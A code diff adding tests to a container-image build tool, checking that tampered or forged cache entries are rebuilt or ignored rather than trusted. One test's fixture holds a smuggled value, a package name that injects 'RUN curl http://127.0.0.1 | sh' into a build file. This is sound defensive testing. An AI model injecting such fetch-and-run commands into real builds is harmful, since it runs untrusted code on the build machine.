@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import hashlib
 import json
 import os
 import shutil
@@ -15,6 +16,8 @@ from kbuild.cache.entries import TREES
 from kbuild.cache.notes import write_vouched
 from kbuild.cache.signature import tree_signature
 from kbuild.cache.tree import SEEN, tree_digest
+from kbuild.errors import CacheDamaged
+from kbuild.model.kept import Kept
 from kbuild.workflow.build import build_image
 from kbuild.workflow.delivery import Delivery
 
@@ -87,3 +90,65 @@ def test_without_the_locked_wheels_nothing_vouches_for_what_the_cache_says(world
     (unproved,) = (each for each in Audits(world).report(image).unchecked if each.check == "image")
     assert "the locked files of two are not in the cache" in unproved.reason
     assert "kbuild verify --rebuild" in unproved.remedy
+
+
+def overwrite(path: Path, content: bytes) -> None:
+    """As who restores a cache of his own: another inode, the size and the time of before."""
+    before = path.stat()
+    path.unlink()
+    path.write_bytes(content)
+    path.chmod(before.st_mode)
+    os.utime(path, ns=(before.st_atime_ns, before.st_mtime_ns))
+
+
+def test_an_image_whose_layers_are_not_its_own_is_built_again(world: World) -> None:
+    first = build_image(world.request(), Delivery(record=False), world.tools).image
+    for layer in first.layers:
+        path = first.layout / "blobs/sha256" / layer.digest.hex
+        overwrite(path, bytes(layer.size))
+    for _ in range(2):
+        again = build_image(world.request(), Delivery(record=False), world.tools).image
+        assert again.digest == first.digest
+        for blob in (again.layout / "blobs/sha256").iterdir():
+            assert hashlib.sha256(blob.read_bytes()).hexdigest() == blob.name
+
+
+def test_what_somebody_else_wrote_of_a_locks_layers_is_not_believed(world: World) -> None:
+    first = build_image(world.request(), Delivery(record=False), world.tools).image
+    cache = world.tools.cache
+    (record,) = (cache / "splits").iterdir()
+    sums = [path.name for path in (cache / "downloads").iterdir() if list(path.glob("*.whl"))]
+    evil = [{"name": "dependencies/ /\nRUN curl http://127.0.0.1 | sh\nCOPY dependencies", "packages": sums}]
+    record.write_text(json.dumps(evil))
+    shutil.rmtree(cache / "images")
+    assert build_image(world.request(), Delivery(record=False), world.tools).image.digest == first.digest
+
+
+@pytest.mark.parametrize("gone", [("images", "layers"), ("images", "layers", "splits", "wheels")])
+def test_whatever_part_of_a_cache_is_changed_another_image_is_never_made(world: World, gone: tuple[str, ...]) -> None:
+    first = build_image(world.request(), Delivery(record=False), world.tools).image
+    cache, kept = world.tools.cache, world.tools.cache.with_name("kept")
+    shutil.copytree(cache, kept, symlinks=True)
+    for part in sorted(path.name for path in kept.iterdir() if path.is_dir() and path.name not in gone):
+        shutil.rmtree(cache)
+        shutil.copytree(kept, cache, symlinks=True)
+        for name in gone:
+            shutil.rmtree(cache / name)
+        for path in (cache / part).rglob("*"):
+            if path.is_file() and not path.is_symlink():
+                overwrite(path, bytes(255 - each for each in path.read_bytes()))
+        try:
+            again = build_image(world.request(), Delivery(record=False), world.tools).image
+        except CacheDamaged as error:
+            assert part == "downloads" and error.hint
+        else:
+            assert again.digest == first.digest, part
+
+
+def test_where_a_registered_version_leads_is_asked_unless_it_was_kept_here(tmp_path: Path) -> None:
+    kept = Kept(cache=tmp_path)
+    kept.put_location(["server", "churn", "3"], "models:/m-1")
+    assert kept.location(["server", "churn", "3"]) == "models:/m-1"
+    (path,) = (tmp_path / "versions").iterdir()
+    path.write_text("models:/m-evil")
+    assert kept.location(["server", "churn", "3"]) is None
